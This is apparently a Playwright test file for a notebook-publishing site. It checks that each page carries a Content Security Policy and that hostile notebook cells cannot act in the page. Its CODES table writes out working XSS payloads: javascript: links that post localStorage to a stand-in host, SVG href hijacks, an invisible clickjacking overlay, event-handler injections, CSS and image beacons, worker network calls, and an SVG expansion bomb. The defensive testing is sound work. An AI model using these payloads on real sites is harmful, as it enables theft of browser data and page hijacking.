"""A stranger's notebook runs nothing in the page, loads nothing and sends nothing elsewhere.

The site is served as a plain static server does: what holds is what the pages carry themselves.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, expect
from sphinx_live_cells.policy import POLICIES, write_meta

from tests.live_cells.conftest import SUB_PATH
from tests.live_cells.pages import PATIENCE, LivePage
from tests.live_cells.serving import read_policy, serve
from tools.serve import run_beside

pytestmark = [pytest.mark.browser, pytest.mark.slow]

POLICY = "Content Security Policy"  # in what a browser says of a refusal
SHOW = "import js\nfrom IPython.display import HTML, SVG, Latex, display\n"
STEAL = (
    "javascript:(()=>{fetch('@ELSEWHERE@/steal',{method:'POST',mode:'no-cors',"
    "body:JSON.stringify(localStorage)});localStorage.clear();document.title='taken'})()"
)
CODES = {
    "an animated link": f"""display(HTML('''<svg width=300 height=90><a href="#"><animate
attributeName="href" values="{STEAL}" fill="freeze" dur="1s" repeatCount="indefinite"/>
<rect width=300 height=90 /></a></svg>'''))""",
    "an invisible cover": f"""display(HTML('''<svg style="position:fixed;inset:0;z-index:99999;
width:100vw;height:100vh;opacity:0"><a><set attributeName="href" to="{STEAL}"/>
<rect width="100%" height="100%"/></a></svg>'''))""",
    "a link that covers the page": """display(HTML('''<a href="@ELSEWHERE@/led"
class="position-fixed fixed-top stretched-link" style="position:fixed;inset:0;margin:-900px;
width:3000px;height:3000px;z-index:99999">x</a>'''))""",
    "forms and handlers": f"""display(HTML('''<button formaction="{STEAL}">x</button>
<input autofocus onfocus="{STEAL[11:]}"><details open ontoggle="{STEAL[11:]}"><summary>s</summary>
</details><math><a xlink:href="{STEAL}">m</a></math><form action="@ELSEWHERE@/form">
<button>y</button></form>
<svg><use href="data:image/svg+xml,<svg id=x><a href=javascript:alert(1) /></svg>#x"/></svg>
<img src=x onerror="{STEAL[11:]}"><iframe srcdoc="<script>{STEAL[11:]}</script>"></iframe>'''))""",
    "styles and pictures": """display(HTML('''<style>body{background:url(@ELSEWHERE@/css)}
main{visibility:hidden}</style><img src="@ELSEWHERE@/img"><div style="
background:url(@ELSEWHERE@/bg);list-style:image-set('@ELSEWHERE@/set' 1x);
cursor:url(@ELSEWHERE@/c),auto">x</div>
<video poster="@ELSEWHERE@/poster" src="@ELSEWHERE@/video"></video>
<link rel=stylesheet href="@ELSEWHERE@/link"><svg><image href="@ELSEWHERE@/image" width=9 /></svg>
<picture><source srcset="@ELSEWHERE@/srcset"><img src="@ELSEWHERE@/x"></picture>'''))""",
    "formulas": f"""display(Latex(r'''$\\href{{{STEAL}}}{{click}}$'''))
display(HTML(r'''<div class="math">\\(\\href{{{STEAL}}}{{click}}\\)
\\(\\mmlToken{{mtext}}[href="{STEAL}"]{{click}}\\)</div>'''))""",
    "a worker that calls": """for attempt in (
    lambda: js.eval("fetch('@ELSEWHERE@/eval')"),
    lambda: js.fetch("@ELSEWHERE@/fetch"),
    lambda: js.importScripts("@ELSEWHERE@/script.js"),
    lambda: js.WebSocket.new("@ELSEWHERE@/socket".replace("http", "ws")),
    lambda: js.EventSource.new("@ELSEWHERE@/events"),
):
    try:
        attempt()
    except Exception:
        pass
request = js.XMLHttpRequest.new()
request.open("GET", "@ELSEWHERE@/request", False)
try:
    request.send()
except Exception:
    pass
print([n for n in ("caches", "indexedDB", "Worker", "BroadcastChannel") if hasattr(js, n)])""",
    "a drawing of a thousand million uses": """levels = "".join(
    f'<g id="l{n + 1}">' + f'<use href="#l{n}"/>' * 10 + "</g>" for n in range(9))
svg = f'<svg xmlns="http://www.w3.org/2000/svg"><g id="l0"><path d="M0 0h9v9z"/></g>{levels}</svg>'
display(SVG(svg))
display(HTML(svg))
import base64
data = base64.b64encode(svg.encode()).decode()
display(HTML(f'<img src="data:image/svg+xml;base64,{data}">'))""",
}
"""What a cell of the notebook does; @ELSEWHERE@ is another origin, which notes who asks."""


class Elsewhere(BaseHTTPRequestHandler):
    """Notes every request."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_OPTIONS = do_GET

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - as in the base class
        """Stay quiet."""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another origin, and what it was asked for."""
    asked: list[str] = []
    handler = type("OneElsewhere", (Elsewhere,), {"asked": asked})
    with run_beside(ThreadingHTTPServer(("127.0.0.1", 0), handler)) as root:
        yield root, asked


@pytest.fixture
def plain(site: Path) -> Iterator[str]:
    """The course from a server that sends no header of its own."""
    with serve(site, SUB_PATH) as root:
        yield root


def listen(page: Page) -> list[str]:
    """Return a list that fills with the dialogs, errors and refusals of a page."""
    said: list[str] = []

    def refuse(dialog: Dialog) -> None:
        said.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", refuse)
    page.on("popup", lambda popup: said.append(f"popup: {popup.url}"))
    page.on("pageerror", lambda error: said.append(f"error: {error}"))
    page.on(
        "console",
        lambda message: said.append(message.text) if POLICY in message.text else None,
    )
    return said


def test_the_readme_tells_people_to_send_the_policy_that_pages_carry() -> None:
    policy = "; ".join(f"{key} {value}" for key, value in POLICIES["pages"].items())
    assert read_policy() == policy


def test_every_page_carries_its_policy_and_needs_nothing_that_it_forbids(
    context: BrowserContext, plain: str, site: Path
) -> None:
    outside: list[str] = []
    context.on(
        "request",
        lambda request: (
            None
            if request.url.startswith((plain, "data:", "blob:"))
            else outside.append(request.url)
        ),
    )
    pages = [path for path in site.rglob("*.html") if not {"_static"} & set(path.parts)]
    assert len(pages) > 15
    for path in sorted(pages):
        name = path.relative_to(site)
        text = path.read_text(encoding="utf-8")
        policy = write_meta("lite" if name.parts[0] == "lite" else "pages")
        assert policy in text, f"{name} carries no policy"
        assert "<script" not in text[: text.index(policy)], f"{name} runs before its policy"
        if name.parts[0] == "lite":
            continue  # an application: that it works is another test's
        page = context.new_page()
        said = listen(page)
        page.goto(f"{plain}{name}", wait_until="load", timeout=PATIENCE)
        if 'http-equiv="Refresh"' in text:
            # Chromium may never close a page that is on its way to another.
            page.wait_for_url(lambda url, there=f"{plain}{name}": url != there)
        assert (said, outside) == ([], []), f"{name} needs what its policy forbids"
        page.close()


def import_answer(live: LivePage, released: Path, code: str, folder: Path) -> None:
    """Bring a notebook with this answer into the page, as a reader does with a friend's."""
    notebook = json.loads(released.read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "ex1a":
            cell["source"] = code
    path = folder / "friends.ipynb"
    path.write_text(json.dumps(notebook), encoding="utf-8")
    live.page.get_by_label("A notebook with your answers").set_input_files(path)
    replace = live.page.get_by_role("button", name="Replace it", exact=True)
    with suppress(AssertionError):
        expect(replace).to_be_visible(timeout=2_000)
        replace.click()
    expect(live.cell("ex1a").locator(".cm-content")).to_contain_text(code.splitlines()[0])


def test_no_notebook_of_a_stranger_acts_in_the_page(
    context: BrowserContext,
    plain: str,
    site: Path,
    elsewhere: tuple[str, list[str]],
    tmp_path: Path,
) -> None:
    origin, asked = elsewhere
    page = context.new_page()
    said = listen(page)
    page.goto(f"{plain}book/exercise-1.html")
    page.evaluate("localStorage.setItem('mine', 'kept')")
    live = LivePage(page, [])
    title, address = page.title(), page.url
    lost: list[str] = []
    for name, code in CODES.items():
        said.clear()
        live.editor("ex1a")
        written = f"# {name}\n{SHOW}{code}".replace("@ELSEWHERE@", origin)
        import_answer(live, site / "notebooks" / "exercise-1.ipynb", written, tmp_path)
        live.run("ex1a")
        output = live.output("ex1a")
        for place in output.locator("a, svg, button, mjx-container, summary, rect").all():
            with suppress(Exception):
                place.click(timeout=500, force=True, no_wait_after=True)
        page.mouse.click(5, 300)  # what covers the page would take this
        page.wait_for_timeout(300)
        if page.url.split("#")[0] != address or page.title() != title:
            lost.append(f"{name}: the page is {page.url}, {page.title()}")
            break
        if page.evaluate("localStorage.getItem('mine')") != "kept":
            lost.append(f"{name}: what the browser kept is gone")
        lost += [f"{name}: {each}" for each in said if POLICY not in each]
        lost += [f"{name}: asked elsewhere for {path}" for path in asked]
        asked.clear()
        words = output.inner_text()
        if "worker" in name and words.strip().splitlines()[-1:] != ["[]"]:
            lost.append(f"{name}: the worker reaches {words}")
        if "uses" in name and words.count("A picture is not shown: the drawing is too complex") < 2:
            lost.append(f"{name}: {words}")
        if "styles" in name and f"it would have been loaded from {origin}/img" not in words:
            lost.append(f"{name}: no line of text says so: {words}")
    assert lost == []
